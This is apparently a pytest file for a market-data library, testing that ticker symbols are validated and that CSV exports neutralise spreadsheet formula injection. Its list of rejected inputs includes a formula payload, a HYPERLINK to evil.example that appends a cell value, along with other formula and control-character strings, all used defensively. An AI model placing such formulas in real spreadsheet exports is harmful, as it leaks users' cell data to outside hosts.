"""Tickers are symbols: printable, no whitespace or control characters, and no leading
formula character (``=``, ``+``, ``-``, ``@``), so a ticker can never become a spreadsheet
formula in a CSV export. Every write path checks it; CSV output also neutralises any cell
that starts with a formula character."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pyarrow as pa
import pytest

from helpers.bars import arrow_bars, make_bars
from helpers.files import tree_snapshot
from helpers.serve import serve
from tickvault import ParquetDB, ValidationError
from tickvault.csv_export import neutralise_formulas, to_csv
from tickvault.pipeline import fetch_and_write
from tickvault.schema import PRICES, dedupe_last
from tickvault.sources.demo import DemoSource

NOT_SYMBOLS = [
    "=2+5",
    "@SUM(1+1)",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1",
    "-1+2",
    "\tAAPL",
    "\rAAPL",
    "AA\x00PL",
    "AA\nPL",
    "AAPL\r",
    "AA PL",
    " AAPL",
    "AAPL ",
    "AA\u00a0PL",  # no-break space
    "AA\u2028PL",  # line separator
    "AA\u200bPL",  # zero-width space (a format character)
    "AA\x7fPL",  # DEL
]
SYMBOLS = ["AAPL", "BRK.B", "BRK-B", "^GSPC", "EURUSD=X", "EUR/USD", "日本", "7203.T", "A+B"]


def frame_with(ticker: str) -> pd.DataFrame:
    good = make_bars(["AAPL", "MSFT"], periods=2)
    bad = make_bars("X", start="2024-02-01", periods=2).assign(ticker=ticker)
    return pd.concat([good, bad], ignore_index=True)  # the bad ticker starts at row 4


@pytest.mark.parametrize("ticker", NOT_SYMBOLS, ids=repr)
def test_a_ticker_that_is_not_a_symbol_is_rejected_naming_the_row(db: ParquetDB, ticker: str):
    db.upsert_prices(make_bars("AAPL", periods=3))
    before = tree_snapshot(db.path)
    with pytest.raises(ValidationError) as err:
        db.upsert_prices(frame_with(ticker))
    message = str(err.value)
    assert err.value.column == "ticker"
    assert (
        f"column 'ticker' has 2 values that are not symbols, first at row 4: {ticker!r}" in message
    )
    assert "must not start with =, +, - or @" in message
    assert tree_snapshot(db.path) == before  # nothing written
    with pytest.raises(ValidationError):
        db.upsert_prices(pa.Table.from_pandas(frame_with(ticker), preserve_index=False))


def test_every_bad_symbol_in_a_batch_is_counted(db: ParquetDB):
    frames = [make_bars(t, periods=3) for t in ["AAPL", "=1", "@A", "B C"]]
    with pytest.raises(ValidationError, match=r"has 9 values that are not symbols, first at row 3"):
        db.upsert_prices(pd.concat(frames, ignore_index=True))


def test_bad_symbols_are_found_in_a_large_unsorted_batch(db: ParquetDB):
    # 30 000 rows whose tickers alternate: every row is a run of its own
    names = ["AAA", "BBB", "CCC", "@X"] * 7_500
    days = [i // 4 for i in range(len(names))]
    with pytest.raises(
        ValidationError, match=r"has 7500 values that are not symbols, first at row 3: '@X'"
    ):
        db.upsert_prices(arrow_bars(names, days))
    db.upsert_prices(
        arrow_bars(names[:-1], days[:-1]).filter(pa.array([n != "@X" for n in names[:-1]]))
    )
    assert db.read_table("prices")["ticker"].nunique() == 3


def test_legitimate_symbols_are_stored_unchanged(db: ParquetDB):
    db.upsert_prices(pd.concat([make_bars(t, periods=3) for t in SYMBOLS], ignore_index=True))
    assert sorted(db.read_table("prices")["ticker"].unique()) == sorted(SYMBOLS)


def test_backfill_of_a_ticker_that_is_not_a_symbol_fails_that_ticker(tmp_path: Path):
    env = {k: v for k, v in os.environ.items() if not k.startswith("TICKVAULT_")}
    argv = [sys.executable, "-m", "tickvault", "backfill", "=2+5", "AAPL", "@SUM(1+1)"]
    argv += ["--db", str(tmp_path / "db"), "--start", "2024-01-01", "--end", "2024-01-31"]
    r = subprocess.run(argv, capture_output=True, text=True, env=env, timeout=120)
    assert r.returncode == 1, r.stderr
    assert "2 ticker(s) failed" in r.stderr
    assert "=2+5: ValidationError: ticker '=2+5' is not a symbol" in r.stderr
    assert "Traceback" not in r.stderr
    db = ParquetDB(tmp_path / "db", create=False)
    assert list(db.read_table("prices")["ticker"].unique()) == ["AAPL"]
    run = db.runs(1)[0]
    assert set(run["errors"]) == {"=2+5", "@SUM(1+1)"}
    db.close()


def test_the_pipeline_never_asks_a_source_for_a_non_symbol(tmp_path: Path):
    asked: list[str] = []
    demo = DemoSource()

    def source(ticker: str, start: object, end: object) -> pd.DataFrame:
        asked.append(ticker)
        return demo.fetch(ticker, start, end)

    report = fetch_and_write(
        ["AAA", "=HYPERLINK(1)", "BB\nB"],
        source,
        tmp_path / "db",
        start="2024-01-01",
        end="2024-01-31",
        scheduler="synchronous",
    )
    assert asked == ["AAA"]
    assert report["written"] == 1 and report["failed"] == 2
    assert report["errors"]["BB\nB"].startswith("ValidationError: ticker 'BB\\nB' is not a symbol")


# -- CSV output ---------------------------------------------------------------------------

FORMULAS = ["=1+2", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"]


def test_csv_output_neutralises_cells_that_start_with_a_formula_character():
    df = pd.DataFrame(
        {
            "ticker": [*FORMULAS, "A=B", "A\r=1", None],
            "kind": pd.array([*FORMULAS, "x", "y", "z"], dtype="string"),
            "value": [-1.5] * 9,
            "count": [-2] * 9,
        }
    )
    header, *rows = list(csv.reader(io.StringIO(to_csv(df), newline="")))
    assert header == ["ticker", "kind", "value", "count"]
    assert [r[0] for r in rows] == ["'" + f for f in FORMULAS] + ["A=B", "A\r=1", ""]
    assert [r[1] for r in rows] == ["'" + f for f in FORMULAS] + ["x", "y", "z"]
    assert {(r[2], r[3]) for r in rows} == {("-1.5", "-2")}  # numbers stay numbers
    assert df["ticker"].iloc[0] == "=1+2"  # the caller's frame is not changed
    clean = pd.DataFrame({"ticker": ["AAPL", "BRK-B"], "value": [1.0, -1.0]})
    assert neutralise_formulas(clean) is clean  # nothing to do: no copy
    assert to_csv(clean) == "ticker,value\nAAPL,1.0\nBRK-B,-1.0\n"


def legacy_database(path: Path, tickers: list[str]) -> None:
    """A database written before the symbol rule existed: its files hold tickers that the
    rule now rejects (written below validation, as an older tickvault would have)."""
    db = ParquetDB(path)
    frame = pd.concat([make_bars(t, periods=2) for t in tickers], ignore_index=True)
    table = dedupe_last(PRICES.cast(pa.Table.from_pandas(frame, preserve_index=False)), PRICES.key)
    db.commit_files("prices", db._table("prices").write_files(table))
    db.close()


@pytest.mark.slow
def test_csv_exports_of_a_legacy_database_are_neutralised(tmp_path: Path):
    legacy_database(tmp_path / "db", ["=2+5", "@SUM(1+1)", "AAPL"])
    env = {k: v for k, v in os.environ.items() if not k.startswith("TICKVAULT_")}
    argv = [sys.executable, "-m", "tickvault", "query", "--format", "csv"]
    r = subprocess.run(
        [*argv, "--db", str(tmp_path / "db")], capture_output=True, text=True, env=env
    )
    assert r.returncode == 0, r.stderr
    cli = pd.read_csv(io.StringIO(r.stdout))
    assert sorted(cli["ticker"].unique()) == ["'=2+5", "'@SUM(1+1)", "AAPL"]

    with serve(tmp_path / "db") as site:
        csv = site.get("/api/tickers/%3D2%2B5/bars.csv")
        assert csv.status_code == 200
        assert pd.read_csv(io.StringIO(csv.text))["ticker"].tolist() == ["'=2+5"] * 2
        assert 'filename="_2_5.csv"' in csv.headers["content-disposition"]
        page = site.get("/tickers/%3D2%2B5")  # still browsable, escaped as text
        assert page.status_code == 200 and "=2+5" in page.text
